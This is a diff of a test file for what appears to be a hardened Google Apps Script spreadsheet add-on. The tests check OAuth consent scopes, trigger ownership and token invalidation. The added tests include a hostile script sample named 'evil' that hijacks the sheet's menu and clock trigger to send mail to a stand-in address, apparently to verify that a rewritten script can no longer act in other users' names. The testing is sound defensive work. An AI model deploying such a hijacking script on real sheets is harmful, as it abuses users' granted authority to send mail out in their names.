@@ -4,12 +4,13 @@ import { describe, expect, test } from 'vitest';
 import { resolvePlan } from '../../src/core/resolve-plan.ts';
 import { bundleAddin, bundleHardened } from '../../src/local/build/bundle.ts';
 import { checkSeeds } from '../../src/local/build/check-seeds.ts';
+import { parting } from '../../src/local/build/manifests.ts';
 import type { Host } from '../../src/local/host/host.ts';
 import type { Answers, Outcome } from '../../src/local/host/run.ts';
 import { createNodeHost } from '../../src/local/node/host.ts';
 import { accountOf, CHAIRMAN, castOf, INSTALLER, policeAccount } from '../../src/local/node/month/cast.ts';
 import { locator } from '../../src/local/node/month/locate.ts';
-import { alertsOf, lastWords, rowsOf, valueAt } from './played.ts';
+import { again, alertsOf, lastWords, rowsOf, stageAt, valueAt } from './played.ts';
 
 const ROOT = new URL('../../', import.meta.url).pathname;
 const SEEDS = checkSeeds(`${ROOT}seeds`);
@@ -32,16 +33,21 @@ interface Hardened {
 async function deployed(clock: string): Promise<Hardened> {
   const host = createNodeHost({ clock, seed: 3 });
   const fileId = host.createSpreadsheet(INSTALLER, 'Đề án 06');
-  const empty = { code: '', manifest: {} };
-  const bound = host.bindScript(INSTALLER, fileId, empty);
-  const standalone = host.createScript(INSTALLER, empty);
+  const bound = host.bindScript(INSTALLER, fileId, { code: '', manifest: {} });
+  const standalone = await pushBoth(host, fileId, bound);
+  for (const unit of castOf(SEEDS)) host.share(fileId, INSTALLER, accountOf(unit), 'editor');
+  host.share(fileId, INSTALLER, CHAIRMAN, 'viewer');
+  return { host, fileId, bound, standalone };
+}
+
+/** The narrow script into the sheet's project, the other one into a new project; its id. */
+async function pushBoth(host: Host, fileId: string, bound: string): Promise<string> {
+  const standalone = host.createScript(INSTALLER, { code: '', manifest: {} });
   const editorUrl = `https://script.google.com/d/${standalone}/edit`;
   const built = await bundleHardened(ROOT, { sheetId: fileId, editorUrl });
   host.push(bound, built.bound.code, JSON.parse(built.bound.manifest));
   host.push(standalone, built.standalone.code, JSON.parse(built.standalone.manifest));
-  for (const unit of castOf(SEEDS)) host.share(fileId, INSTALLER, accountOf(unit), 'editor');
-  host.share(fileId, INSTALLER, CHAIRMAN, 'viewer');
-  return { host, fileId, bound, standalone };
+  return standalone;
 }
 
 function inEditor({ host, standalone }: Hardened, functionName: string): string {
@@ -137,8 +143,12 @@ describe('a month', async () => {
 
   test('CAX consents to this file, a menu and its own address, and to nothing else', () => {
     host.open(POLICE, fileId);
-    const outcome = host.click(POLICE, fileId, ['Đề án 06', 'Kiểm tra dữ liệu'], yes);
-    expect(outcome).toMatchObject({ kind: 'consent', scopes: NARROW });
+    const ask = () => host.click(POLICE, fileId, ['Đề án 06', 'Kiểm tra dữ liệu'], yes);
+    expect(ask()).toMatchObject({ kind: 'consent', scopes: NARROW });
+    // Once: there is no earlier consent to give up.
+    host.grant(POLICE, bound, 'all');
+    for (const words of [lastWords(ask()), lastWords(ask())]) expect(words).not.toContain('hỏi quyền');
+    expect(host.state().scripts[bound]?.properties.user).toEqual({});
   });
 
   test('a unit that asks for a deed of CAX is told whose it is, and leaves no request', () => {
@@ -248,4 +258,116 @@ test('a closing by the script of the plain way in the very moment of one by the 
   expect(valueAt(world, 'controls', 'Tổng hợp báo cáo', 'outcome')).toContain('vừa được lập bởi một người khác');
   host.advance({ to: '2024-05-15T09:30' });
   expect(host.state().outbox.filter(({ to }) => to.includes(CHAIRMAN)).length).toBe(1);
+});
+
+describe('a sheet of the plain way, changed', async () => {
+  const plain = await bundleAddin(ROOT);
+  const stage = stageAt('2024-04-15T08:00');
+  stage.click(POLICE, 'Kiểm tra dữ liệu');
+  const standalone = await pushBoth(stage.host, stage.fileId, stage.scriptId);
+  const WIDE = JSON.parse(plain.manifest);
+  const evil = `function onOpen(){SpreadsheetApp.getUi().createMenu('Đề án 06').addItem('Kiểm tra dữ liệu','steal').addToUi()}
+    function runClock(){steal()}
+    function steal(){MailApp.sendEmail('ai-do@example.com','x','x')}`;
+
+  const narrow = stage.host.state().scripts[stage.scriptId];
+  const last = parting(JSON.stringify(narrow?.manifest), plain.manifest);
+
+  /** The same sheet anew, and what an editor of it makes of the script: rewritten under the old manifest, put back afterwards. */
+  function changed(manifest = narrow?.manifest) {
+    const { host, fileId, scriptId: bound } = again(stage);
+    let pushed = manifest;
+    const putBack = () => host.push(bound, narrow?.code ?? '', pushed);
+    putBack();
+    const stolen = () => host.state().outbox.filter(({ to }) => to.includes('ai-do@example.com'));
+    return {
+      host,
+      fileId,
+      bound,
+      standalone,
+      /** In whose names it has mailed meanwhile. */
+      rewritten<T>(meanwhile: () => T): { outcome: T; mailed: string[] } {
+        const before = stolen().length;
+        host.push(bound, evil, WIDE);
+        const outcome = meanwhile();
+        putBack();
+        return {
+          outcome,
+          mailed: stolen()
+            .slice(before)
+            .map(({ from }) => from),
+        };
+      },
+      ask(user: string): Outcome {
+        host.open(user, fileId);
+        return host.click(user, fileId, ['Đề án 06', 'Kiểm tra dữ liệu'], yes);
+      },
+      minutes: (count: number) => host.advance({ by: count * 60_000 }),
+      /** The last push of the change. */
+      end() {
+        pushed = narrow?.manifest;
+        putBack();
+      },
+    };
+  }
+  const parted = () => changed(JSON.parse(last ?? ''));
+
+  test('without the push between, its new scope would stop the old clock, and the consent would wait for whoever rewrites the script', () => {
+    const { host, minutes, rewritten } = changed();
+    minutes(20);
+    expect(host.state().failures[0]?.message).toBe('Authorization is required to perform that action.');
+    expect(rewritten(() => minutes(10)).mailed).toEqual([INSTALLER]);
+  });
+
+  test('the old clock gives up the consent it runs by: what is written there later mails nobody in the installing account’s name', () => {
+    const world = parted();
+    const { host, minutes, rewritten, ask } = world;
+    expect(rewritten(() => minutes(10)).mailed).toEqual([INSTALLER]);
+    minutes(10);
+    expect(host.state().failures).toEqual([]);
+    world.end();
+    expect(rewritten(() => minutes(60)).mailed).toEqual([]);
+    expect(rewritten(() => ask(INSTALLER))).toMatchObject({ outcome: { kind: 'consent' }, mailed: [] });
+    expect(host.state().failures.at(-1)).toMatchObject({
+      to: INSTALLER,
+      message: 'Authorization is required to perform that action.',
+    });
+    // It consents to what the script in the sheet needs now, and is asked once.
+    expect(ask(INSTALLER)).toMatchObject({ kind: 'consent', scopes: NARROW });
+    host.grant(INSTALLER, world.bound, 'all');
+    expect(lastWords(ask(INSTALLER))).not.toContain('hỏi quyền');
+    expect(ask(INSTALLER).kind).toBe('ok');
+    expect(rewritten(() => ask(INSTALLER))).toMatchObject({ outcome: { kind: 'consent' }, mailed: [] });
+    // The other script is another project: nothing of it was given up.
+    expect(inEditor(world, 'setUp')).toContain('Lịch tự động của bảng từ nay do tập lệnh này giữ');
+    expect(host.triggers(standalone).map(({ owner }) => owner)).toEqual([INSTALLER]);
+  });
+
+  test('where Google fails to forget, nobody is written to, and the next run of the old clock tries again', () => {
+    const { host, minutes, rewritten } = parted();
+    const end = host.intercept(({ method }) =>
+      method === 'invalidateAuth' ? { failBefore: new Error('Service error') } : undefined,
+    );
+    minutes(10);
+    end();
+    expect(host.state().failures).toEqual([]);
+    expect(host.state().scripts[stage.scriptId]?.properties.user[INSTALLER]).toEqual({});
+    minutes(10);
+    expect(rewritten(() => minutes(30)).mailed).toEqual([]);
+  });
+
+  test('so does the first request of CAX, which is told that Google asks once more; and only once', () => {
+    const { host, bound, rewritten, ask } = changed();
+    expect(rewritten(() => ask(POLICE)).mailed).toEqual([POLICE]);
+    expect(ask(POLICE)).toMatchObject({ kind: 'consent', scopes: NARROW });
+    host.grant(POLICE, bound, 'all');
+    expect(rewritten(() => ask(POLICE)).mailed).toEqual([POLICE]);
+    expect(lastWords(ask(POLICE))).toMatch(/Đã ghi yêu cầu.*lần bấm sau Google hỏi quyền một lần nữa/su);
+    expect(rewritten(() => ask(POLICE))).toMatchObject({ outcome: { kind: 'consent' }, mailed: [] });
+    expect(ask(POLICE)).toMatchObject({ kind: 'consent', scopes: NARROW });
+    host.grant(POLICE, bound, 'all');
+    expect(lastWords(ask(POLICE))).not.toContain('hỏi quyền');
+    expect(ask(POLICE).kind).toBe('ok');
+    expect(rewritten(() => ask(POLICE))).toMatchObject({ outcome: { kind: 'consent' }, mailed: [] });
+  });
 });
